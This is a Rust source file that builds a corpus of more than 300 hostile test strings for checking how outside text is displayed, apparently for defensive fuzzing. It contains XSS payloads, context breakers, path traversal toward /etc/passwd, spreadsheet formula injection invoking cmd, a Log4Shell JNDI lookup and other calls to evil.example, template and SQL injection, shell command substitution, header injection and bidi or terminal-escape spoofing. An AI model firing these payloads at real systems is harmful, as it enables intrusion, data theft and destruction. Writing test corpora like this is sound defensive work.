//! What a hostile target, mail or colleague writes where a harmless word is expected. Whoever shows a text from outside, on
//! a page, in a mail, in a table or in a log, is tried with all of these.

/// What ends the place in which a text stands.
const BREAKERS: [&str; 14] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</svg>",
    "</bdi></p></li></ul></main>",
];

/// What then would act.
const ACTS: [&str; 16] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=https://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<h1>Everything works</h1>",
];

const SINGLE: [&str; 88] = [
    // Handlers and addresses that need no element of their own.
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "\" style=\"position:fixed;inset:0",
    "\" class=\"state up",
    "\" id=\"main",
    "x onerror=alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3e",
    // Halves and ruins of elements.
    "<",
    ">",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script/x>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<!--",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?>",
    "<!doctype html>",
    "</",
    "</p",
    "<p",
    "<plaintext>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<desc><script>alert(1)</script></desc>",
    "<foreignObject><body onload=alert(1)></foreignObject>",
    // Entities.
    "&",
    "&amp;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3c;script&#x3e;",
    "&lt",
    "&notit;",
    "&#0;",
    "&#x110000;",
    "&quot;&apos;",
    "&NewLine;&colon;&lpar;",
    // Styles.
    "expression(alert(1))",
    "}*{background:url(//evil.example)}",
    "@import '//evil.example/x.css';",
    "/**/",
    // Direction, width and controls.
    "\u{202e}evil",
    "\u{202d}evil\u{202c}",
    "\u{2066}evil",
    "\u{2067}evil\u{2069}",
    "\u{200f}\u{200e}\u{61c}",
    "مرحبا בעולם 123",
    "a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{feff}f",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{0}",
    "a\u{0}b",
    "\u{1b}[2J\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{7}\u{8}\u{b}\u{c}\u{7f}",
    "\u{85}\u{9b}31m",
    "\r\nBcc: everybody@example.com",
    "\r\n\r\n<script>alert(1)</script>",
    "a\nb",
    "a\rb",
    "a\u{2028}b\u{2029}c",
    "\u{fffd}\u{fffe}\u{ffff}",
    "\u{d7ff}\u{e000}\u{10ffff}",
    "ｓｃｒｉｐｔ ＜ａｌｅｒｔ＞",
    "\u{1f469}\u{200d}\u{1f692}\u{1f3f4}\u{e0067}\u{e007f}",
    // Formulas, templates, formats and queries.
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=HYPERLINK(\"//evil.example\")",
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x {0} {}",
    "'; DROP TABLE incident; --",
    "$(id)`id`;id|id&&id",
];

/// All of them.
pub fn payloads() -> Vec<String> {
    let acting = BREAKERS.iter().flat_map(|breaker| ACTS.iter().map(move |act| format!("{breaker}{act}")));
    let long = ["a", "<b>", "&", "\u{202e}", "\u{4e2d}", "\u{1f600}", " "].map(|piece| piece.repeat(4_000));
    SINGLE.iter().map(|text| (*text).to_owned()).chain(acting).chain(long).collect()
}

#[test]
fn there_are_three_hundred_of_them_and_no_two_are_alike() {
    let all = payloads();
    let different: std::collections::BTreeSet<&String> = all.iter().collect();
    assert!(all.len() > 300 && different.len() == all.len(), "{} of {}", different.len(), all.len());
}
